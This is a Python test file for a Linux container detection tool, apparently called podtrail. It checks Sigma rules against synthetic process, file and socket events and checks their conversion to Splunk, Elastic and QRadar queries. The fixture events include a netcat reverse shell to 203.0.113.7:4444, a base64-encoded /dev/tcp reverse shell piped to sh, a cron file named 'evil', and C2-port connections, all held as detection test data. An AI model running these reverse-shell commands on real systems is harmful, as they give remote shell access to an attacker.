"""Rules written in SigmaHQ's generic Linux taxonomy (``product: linux``; Image, CommandLine,
TargetFilename, DestinationIp, Initiated, ...) run as they are: in the agent, in pySigma's SQLite
backend through the same taxonomy pipeline (same verdicts), and converted for Splunk, Elastic and
QRadar. The rules in ``tests/sigma/community`` were written for these tests (no community rule file
is copied into the project); ``unusable/`` holds rules the agent must refuse, each for its reason.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from podtrail.detect.engine import Engine
from podtrail.detect.ruleset import load_paths
from podtrail.rules.catalog import RuleFile
from podtrail.rules.evaluate import evaluate

HERE = Path(__file__).parent / "community"
ROOT = Path(__file__).resolve().parents[2]
CID = "b" * 64
T0 = 1_790_000_000_000_000_000


def _ev(i: int, kind: str, action: str, **kw: Any) -> dict[str, Any]:
    ev = {"event_id": f"c-{i}", "event_type": kind, "action": action, "time_ns": T0 + i * 1_000_000_000,
          "time": (T0 + i * 1_000_000_000) // 1_000_000_000, "container_id": CID, "pid": 100 + i}
    ev.update(kw)
    return ev


def _exec(i: int, **kw: Any) -> dict[str, Any]:
    return _ev(i, "process", "exec", **kw)


def _conn(i: int, dst: str, port: int, path: str = "/usr/bin/nc", direction: str = "outbound") -> dict[str, Any]:
    out = direction == "outbound"
    return _ev(i, "socket", "connect" if out else "accept", path=path, direction=direction, family=2,
               local_address="10.244.0.5", local_port=40000 + i, remote_address=dst, remote_port=port,
               src_address="10.244.0.5" if out else dst, src_port=40000 + i if out else port,
               dst_address=dst if out else "10.244.0.5", dst_port=port if out else 40000 + i)


# (event, rules that must alert on it: their names)
CASES: list[tuple[dict[str, Any], set[str]]] = [
    (_exec(1, path="/usr/bin/nc", cmdline="nc -e /bin/sh 203.0.113.7 4444", cwd="/tmp"), {"test_generic_netcat_exec"}),
    (_exec(2, path="/usr/bin/nc", cmdline="nc -e /bin/sh 203.0.113.7 4444", cwd="/opt/netlab/run"), set()),
    (_exec(3, path="/usr/bin/ncat", cmdline="ncat -l 8080"), set()),
    (_exec(4, path="/usr/bin/base64", cmdline="base64 -d /tmp/p", parent_path="/usr/sbin/nginx", user="www-data"),
     {"test_generic_decode"}),
    (_exec(5, path="/bin/sh", cmdline="sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8x|sh", parent_path="/usr/sbin/httpd",
           user="WWW-DATA"), {"test_generic_decode"}),
    (_exec(6, path="/usr/bin/find", cmdline="find / /exec sh ;", parent_path="/usr/sbin/nginx", user="www-data"),
     {"test_generic_decode"}),
    (_exec(7, path="/usr/bin/base64", cmdline="base64 -d /tmp/p", parent_path="/usr/sbin/nginx", user="root"), set()),
    (_exec(8, path="/usr/bin/base64", cmdline="base64 -w0 /tmp/p", parent_path="/usr/sbin/nginx", user="www-data"), set()),
    (_ev(9, "file", "create", path="/bin/sh", target_path="/etc/cron.d/evil"), {"test_generic_cron_file"}),
    (_ev(10, "file", "write", path="/usr/sbin/cron", target_path="/var/spool/cron/crontabs/root"), set()),
    (_conn(11, "203.0.113.7", 4444), {"test_generic_c2_port"}),
    (_conn(12, "10.1.2.3", 4444), set()),
    (_conn(13, "203.0.113.7", 4444, direction="inbound"), set()),
    (_conn(14, "203.0.113.8", 1337), {"test_generic_c2_port"}),
    (_conn(15, "203.0.113.9", 4444), {"test_generic_c2_port", "test_generic_c2_burst"}),
]


def _events() -> list[dict[str, Any]]:
    return [dict(ev) for ev, _ in CASES]


def test_agent_evaluates_generic_rules_as_they_are() -> None:
    rules = load_paths([HERE], shipped=False)
    assert rules.usable == 5 and len(rules.problems) == 5
    names = {s.meta.id: s.meta.name for s in rules.signatures} | {c.meta.id: c.meta.name for c in rules.correlations}
    engine = Engine(rules)
    for ev, want in CASES:
        got = {names[a["rule_id"]] for a in engine.process(dict(ev))}
        assert got == want, f"{ev['event_id']}: {got} != {want}"


def _rule_files() -> list[RuleFile]:
    out = []
    for p in sorted(HERE.glob("*.yml")):
        doc = yaml.safe_load(p.read_text())
        out.append(RuleFile(p, doc["name"], "correlation" if "correlation" in doc else "alert", doc))
    return out


def test_sqlite_backend_agrees_through_the_same_taxonomy_pipeline() -> None:
    files = _rule_files()
    sqlite = set(evaluate(_events(), include_base=True, files=files))
    expected = set().union(*(w for _, w in CASES))
    assert sqlite == expected


def test_correlation_alert_names_its_events() -> None:
    """The burst correlation's alert lists the three connections, and ``rules test`` prints them."""
    rules = load_paths([HERE], shipped=False)
    engine = Engine(rules)
    alerts = [a for ev in _events() for a in engine.process(ev) if a["detection_kind"] == "correlation"]
    assert len(alerts) == 1
    assert alerts[0]["trigger_ids"] == ["c-11", "c-14", "c-15"]
    assert alerts[0]["findings"]["group"] == {"Image": "/usr/bin/nc"} and alerts[0]["findings"]["count"] == 3


def _cli(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "podtrail", *args], capture_output=True, text=True, input=stdin,
                          cwd=ROOT, timeout=120)


def test_rules_test_cli_on_generic_rules(tmp_path: Path) -> None:
    events = tmp_path / "events.jsonl"
    events.write_text("".join(json.dumps(e) + "\n" for e in _events()))
    p = _cli("rules", "test", "--events", str(events), "--rules", str(HERE))
    assert p.returncode == 0, p.stderr
    lines = [json.loads(x) for x in p.stdout.splitlines()]
    hits = {h["rule"]: h for h in lines[:-1]}
    assert set(hits) == {"test_generic_netcat_exec", "test_generic_decode", "test_generic_cron_file",
                         "test_generic_c2_port", "test_generic_c2_burst"}
    assert hits["test_generic_c2_burst"]["event_ids"] == ["c-11", "c-14", "c-15"]
    assert hits["test_generic_c2_burst"]["kind"] == "correlation" and hits["test_generic_c2_burst"]["level"] == "critical"
    assert hits["test_generic_decode"]["event_ids"] == ["c-4", "c-5", "c-6"]
    assert hits["test_generic_c2_port"]["title"].startswith("Outbound connection to a classic")
    assert lines[-1] == {"summary": {"events": len(CASES), "rules": 5, "not_usable": 5, "rules_fired": 5, "alerts": 9}}
    assert p.stderr.count("not used:") == 5


def test_rules_check_cli_gives_each_reason() -> None:
    p = _cli("rules", "check", str(HERE))
    assert p.returncode == 1
    lines = [json.loads(x) for x in p.stdout.splitlines()]
    reasons = {x["title"]: x["reason"] for x in lines[:-1]}
    assert "PE header" in reasons["Renamed binary by OriginalFileName"]
    assert "|expand" in reasons["Placeholder expansion"]
    assert "service 'auditd'" in reasons["An auditd log rule"]
    assert "keyword search" in reasons["Keyword search"]
    assert "missing_selection" in reasons["Broken rule"]
    assert lines[-1] == {"summary": {"read": 10, "usable": 5, "not_usable": 5}}
    ok = _cli("rules", "check", str(HERE / "file_cron_generic.yml"))
    assert ok.returncode == 0 and json.loads(ok.stdout) == {"summary": {"read": 1, "usable": 1, "not_usable": 0}}
    shipped = _cli("rules", "check", str(ROOT / "siem_content" / "sigma"))  # rules plus the case file
    lines = [json.loads(x) for x in shipped.stdout.splitlines()]
    assert [x["path"].rsplit("/", 1)[-1] for x in lines[:-1]] == ["cases.yml"]
    assert "not a Sigma rule" in lines[0]["reason"] and lines[-1]["summary"]["not_usable"] == 1
    missing = _cli("rules", "check", str(HERE / "nope.yml"))
    assert missing.returncode == 2 and missing.stderr.count("\n") == 1 and "nope.yml" in missing.stderr


@pytest.mark.parametrize("name", ["test_generic_netcat_exec", "test_generic_decode", "test_generic_cron_file",
                                  "test_generic_c2_port"])
def test_generic_rules_convert_for_splunk_and_elastic(name: str) -> None:
    from podtrail.rules.convert import to_elastic, to_splunk

    files = _rule_files()
    rf = next(f for f in files if f.name == name)
    spl = to_splunk(rf, files)
    lucene = to_elastic(rf, files)
    assert not spl.unsupported and not lucene.unsupported
    text_spl, text_es = str(spl.output[0]), json.dumps(lucene.output[0])
    for generic in ("Image", "CommandLine", "TargetFilename", "DestinationIp", "Initiated", "ParentImage", "User"):
        assert generic not in text_spl and f'"{generic}' not in text_es
    if name == "test_generic_c2_port":
        assert 'direction="outbound" dpt IN (4444, 1337) NOT (dst="10.0.0.0/8"' in text_spl  # Splunk matches CIDR
        assert "network.direction:outbound" in text_es
    if name == "test_generic_cron_file":
        assert "filePath" in text_spl and "file.path" in text_es and "processPath" in text_spl


def test_generic_correlation_converts_for_splunk() -> None:
    from podtrail.rules.convert import to_splunk

    files = _rule_files()
    rf = next(f for f in files if f.name == "test_generic_c2_burst")
    out = str(to_splunk(rf, files).output[-1])  # generate: true puts the referenced rule first
    assert "stats count as event_count by _time processPath" in out and "event_count >= 3" in out


def test_generic_rules_convert_for_qradar() -> None:
    """The QRadar AQL backend (pysigma-backend-qradar-community, pySigma 1.x) in the main venv."""
    from podtrail.rules.convert import to_qradar

    files = _rule_files()
    out = {f.name: to_qradar(f, files) for f in files}
    aql = str(out["test_generic_c2_port"].output[0])
    assert "direction='outbound'" in aql and "dstPort IN" in aql and "INCIDR('10.0.0.0/8', dst)" in aql
    assert "Initiated" not in aql and "filePath" in str(out["test_generic_cron_file"].output[0])
    assert out["test_generic_c2_burst"].unsupported
